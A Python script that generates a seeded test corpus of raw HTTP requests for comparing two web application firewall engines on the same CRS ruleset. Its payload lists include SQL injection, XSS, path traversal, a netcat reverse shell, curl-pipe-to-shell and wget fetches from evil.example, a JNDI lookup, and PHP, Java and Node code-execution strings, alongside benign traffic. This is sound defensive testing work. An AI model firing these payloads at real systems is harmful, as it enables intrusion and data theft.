#!/usr/bin/env python3
"""Writes corpus.txt, the fixed corpus of the differential harness (edge vs libmodsecurity3 on the
same CRS). Deterministic (seeded); rerun only to change the corpus, and commit both files.

Line format: FAMILY<TAB>REQUEST, the raw HTTP/1.1 request with \\r \\n \\t \\\\ and \\xHH escapes.
Families: generated attacks per CRS rule family (sqli xss lfi rfi rce php java nodejs fixation
protocol scanner), each placed in a query argument, an argument name, a cookie, a header, a
urlencoded form or a JSON body; mutations of them (case, double encoding, comments, whitespace);
and benign browsing, forms and JSON API traffic."""
import random
import urllib.parse

rng = random.Random(1414)

ATTACKS = {
    "sqli": [
        "1' OR '1'='1", "1 UNION ALL SELECT username,password FROM users--", "1'; DROP TABLE users;--",
        "1 AND SLEEP(5)", "' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--", "admin'--",
        "1 or benchmark(10000000,MD5(1))#", "1' and extractvalue(1,concat(0x7e,version()))--",
        "-1 union select 1,2,group_concat(table_name) from information_schema.tables",
        "1) or pg_sleep(5)--", "' or 1=1 limit 1 -- -", "1;waitfor delay '0:0:5'--", "x' having 1=1--",
        "1' order by 3--", "@@version", "1 procedure analyse()", "'; exec xp_cmdshell('dir')--",
        "1' or '' = '", "\" or \"\"=\"", "1 /*!50000union*/ select 1",
    ],
    "xss": [
        "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "javascript:alert(1)", "\"><iframe src=javascript:alert(1)>", "<body onload=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>", "<div style=\"background:url(javascript:alert(1))\">",
        "';alert(String.fromCharCode(88,83,83))//", "<scr<script>ipt>alert(1)</script>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<object data=\"data:text/html,x\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
        "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    ],
    "lfi": [
        "../../../../etc/passwd", "....//....//etc/shadow", "/proc/self/environ", "..\\..\\windows\\win.ini",
        "/etc/passwd%00", "file:///etc/hosts", "../../../../../boot.ini", ".htaccess",
    ],
    "rfi": [
        "http://203.0.113.9/shell.txt?", "https://evil.example/x.php?", "ftp://198.51.100.7/a.txt?",
        "http://evil.example/backdoor.txt", "include=http://1.2.3.4/x",
    ],
    "rce": [
        "127.0.0.1;cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(curl http://evil.example/x.sh|sh)",
        "${jndi:ldap://evil.example/a}", "`id`", "; wget http://evil.example/a -O /tmp/a", "& ping -n 3 127.0.0.1",
        "|| whoami", "/bin/bash -i", "system('ls -la')", "; /usr/bin/id", "a;python -c 'import os'",
    ],
    "php": [
        "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php",
        "phpinfo()", "$_SERVER['HTTP_HOST']", "O:8:\"stdClass\":0:{}", "allow_url_include=1",
        "base64_decode('cGhwaW5mbygp')", "expect://id",
    ],
    "java": [
        "java.lang.Runtime.getRuntime().exec('id')", "new java.lang.ProcessBuilder('id').start()",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "${T(java.lang.Runtime).getRuntime().exec('id')}",
        "class.module.classLoader.resources", "java.io.ObjectInputStream", "%{(#_='multipart/form-data')}",
        "xwork.MethodAccessor.denyMethodExecution",
    ],
    "nodejs": [
        "require('child_process').exec('id')", "process.mainModule.require('fs')",
        "_$$ND_FUNC$$_function(){require('child_process')}",
    ],
    "fixation": ["jsessionid=abcdef0123456789", "PHPSESSID=deadbeefcafe", "sessionid=12345"],
}
BENIGN_WORDS = ["shoes", "coffee", "garden", "account", "profile", "search", "orders", "cart", "blue", "summer",
                "api", "v2", "items", "news", "2024", "report", "invoice", "help", "O'Brien", "rock & roll",
                "a-b_c", "50%", "price<100", "C++", "email@example.com", "Müller", "naïve café", "select",
                "union", "from", "where", "drop", "script", "alert", "order by date"]
AGENTS = ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
          "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1",
          "okhttp/4.12.0", "python-requests/2.31.0", "curl/7.88.1"]
SCANNERS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
            "masscan/1.3", "WPScan v3.8"]

def q(s, safe=""):
    return urllib.parse.quote(s, safe=safe)

def base_headers(ua=None, extra=()):
    h = [("Host", "shop.example.com"), ("User-Agent", ua or rng.choice(AGENTS)),
         ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
         ("Accept-Language", "en-US,en;q=0.5"), ("Accept-Encoding", "gzip, deflate")]
    h += list(extra)
    return h

def req(method, target, headers, body=b""):
    if isinstance(body, str):
        body = body.encode()
    out = f"{method} {target} HTTP/1.1\r\n"
    for k, v in headers:
        out += f"{k}: {v}\r\n"
    if body or method in ("POST", "PUT"):
        out += f"Content-Length: {len(body)}\r\n"
    return out.encode("utf-8") + b"\r\n" + body

def path():
    return "/" + "/".join(q(rng.choice(["shop", "api", "v1", "items", "user", "search", "blog"])) for _ in range(rng.randint(1, 3)))

def mutate(p):
    m = rng.randrange(6)
    if m == 0:
        return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in p), "case"
    if m == 1:
        return q(p), "double-encoded"
    if m == 2:
        return p.replace(" ", "/**/"), "comments"
    if m == 3:
        return p.replace(" ", "\t"), "tabs"
    if m == 4:
        return p.replace(" ", "+"), "plus"
    return "  " + p + "  ", "padded"

def placements(fam, p):
    """One request per placement of payload p."""
    out = []
    out.append(req("GET", f"{path()}?id={q(p)}", base_headers()))
    out.append(req("GET", f"{path()}?{q(p)}=1", base_headers()))
    out.append(req("GET", path(), base_headers(extra=[("Cookie", "session=" + q(p, safe=" ',()=/:$") + "; theme=dark")])))
    out.append(req("GET", path(), base_headers(extra=[("Referer", "https://shop.example.com/?q=" + q(p))])))
    out.append(req("POST", path(), base_headers(extra=[("Content-Type", "application/x-www-form-urlencoded")]),
                   "name=alice&comment=" + q(p)))
    return out

def esc(b):
    s = []
    for c in b:
        if c == 0x5C: s.append("\\\\")
        elif c == 0x0D: s.append("\\r")
        elif c == 0x0A: s.append("\\n")
        elif c == 0x09: s.append("\\t")
        elif 0x20 <= c < 0x7F: s.append(chr(c))
        else: s.append("\\x%02x" % c)
    return "".join(s)

corpus = []
for fam, payloads in ATTACKS.items():
    for p in payloads:
        for r in placements(fam, p):
            corpus.append((fam, r))
        mp, how = mutate(p)
        corpus.append((fam + "-mut-" + how, req("GET", f"{path()}?q={q(mp)}", base_headers())))
for s in SCANNERS:
    corpus.append(("scanner", req("GET", path(), base_headers(ua=s))))
# Protocol family (CRS 920/921): odd but parseable requests.
proto = [
    req("GET", "/index.php?a=%00b", base_headers()),
    req("GET", "/a%zz", base_headers()),
    req("GET", "/?x=%C0%AF", base_headers()),
    req("GET", "/?x=%01%02", base_headers()),
    req("GET", "/", [("Host", "shop.example.com"), ("User-Agent", "curl/7.88.1")]),
    req("GET", "/", [("Host", "shop.example.com"), ("Accept", "*/*")]),
    req("GET", "/", base_headers(extra=[("Range", "bytes=0-1,2-3,4-5,6-7,8-9,10-11")])),
    req("GET", "/", base_headers(extra=[("Content-Length", "0")])),
    req("POST", "/upload", base_headers(extra=[("Content-Type", "application/x-foo")]), "x=1"),
    req("GET", "/", [("Host", "198.51.100.1"), ("User-Agent", "curl/7.88.1"), ("Accept", "*/*")]),
    req("GET", "/backup.sql", base_headers()),
    req("GET", "/.git/config", base_headers()),
    req("GET", "/web.config", base_headers()),
    req("OPTIONS", "/", base_headers()),
    req("GET", "/?" + "&".join(f"a{i}=1" for i in range(300)), base_headers()),
    req("GET", "/", base_headers(extra=[("Proxy", "http://evil.example")])),
    req("GET", "/", base_headers(extra=[("Cache-Control", "no-cache, x")])),
    req("GET", "/?a=1&a=2&a=3", base_headers()),
    req("POST", "/form", base_headers(extra=[("Content-Type", "application/x-www-form-urlencoded; charset=utf-7")]), "a=1"),
    req("GET", "/x;jsessionid=1234", base_headers()),
]
corpus += [("protocol", r) for r in proto]
# Benign traffic: browsing, static assets, forms and JSON APIs.
for i in range(250):
    k = rng.randrange(5)
    if k == 0:
        args = "&".join(f"{rng.choice(['q','page','sort','lang','ref'])}{j}={q(rng.choice(BENIGN_WORDS))}" for j in range(rng.randint(0, 4)))
        corpus.append(("benign-get", req("GET", path() + ("?" + args if args else ""), base_headers(
            extra=[("Cookie", f"session={rng.getrandbits(48)}; theme=dark")] if rng.random() < 0.5 else []))))
    elif k == 1:
        corpus.append(("benign-static", req("GET", rng.choice(["/static/app.js", "/img/logo.png", "/css/site.css", "/favicon.ico"]), base_headers())))
    elif k == 2:
        body = "&".join(f"{n}={q(rng.choice(BENIGN_WORDS))}" for n in ["name", "email", "message", "subject"][: rng.randint(1, 4)])
        corpus.append(("benign-form", req("POST", "/contact", base_headers(extra=[("Content-Type", "application/x-www-form-urlencoded")]), body)))
    elif k == 3:
        body = '{"user":"%s","items":[%d,%d],"note":"%s"}' % (rng.choice(["alice", "bob"]), rng.randrange(100), rng.randrange(100), rng.choice(BENIGN_WORDS))
        corpus.append(("benign-json", req("POST", "/api/v2/orders", base_headers(ua="okhttp/4.12.0", extra=[("Content-Type", "application/json")]), body)))
    else:
        corpus.append(("benign-api", req("GET", f"/api/v2/items/{rng.randrange(100000)}?fields=name,price", base_headers(ua="python-requests/2.31.0", extra=[("Authorization", "Bearer abc.def.ghi")]))))
# JSON bodies with attacks (no JSON body processor on either side: REQUEST_BODY only).
for fam in ("sqli", "xss", "rce"):
    for p in ATTACKS[fam][:5]:
        body = '{"q":"%s"}' % p.replace('"', '\\"')
        corpus.append((fam + "-json", req("POST", "/api/v2/search", base_headers(extra=[("Content-Type", "application/json")]), body)))
# Limits (CRS 920250 and 920360-920390 with crs-setup-limits.conf's values): over and at each.
# No uploads (920400/920410): ModSecurity v3 also scans a multipart body as REQUEST_BODY, so 920272
# and 920273 fire there on the part delimiters' CRLFs; edge scans an upload as its fields and files
# only (its own `body` rules must not read file content), a known difference.
form = [("Content-Type", "application/x-www-form-urlencoded")]
limits = [
    req("GET", "/?" + "n" * 101 + "=1", base_headers()),
    req("GET", "/?" + "n" * 100 + "=1", base_headers()),
    req("GET", "/?a=" + "v" * 401, base_headers()),
    req("GET", "/?a=" + "v" * 400, base_headers()),
    req("GET", "/?" + "&".join(f"a{i}=1" for i in range(256)), base_headers()),
    req("GET", "/?" + "&".join(f"a{i}=1" for i in range(255)), base_headers()),
    req("POST", "/form", base_headers(extra=form), "&".join(f"f{i}=" + "v" * 390 for i in range(170))),
    req("POST", "/form", base_headers(extra=form), "&".join(f"f{i}=" + "v" * 390 for i in range(160))),
    req("POST", "/form?q=" + "v" * 300, base_headers(extra=form), "&".join(f"f{i}=" + "v" * 390 for i in range(163))),
    req("GET", "/?x=caf%E9", base_headers()),
    req("GET", "/?x=caf%C3%A9", base_headers()),
    req("GET", "/caf%E9.html", base_headers()),
]
corpus += [("limits", r) for r in limits]

with open("corpus.txt", "w") as f:
    f.write("# generated by make_corpus.py: FAMILY<TAB>escaped raw request\n")
    for fam, r in corpus:
        f.write(fam + "\t" + esc(r) + "\n")
print(len(corpus), "requests")
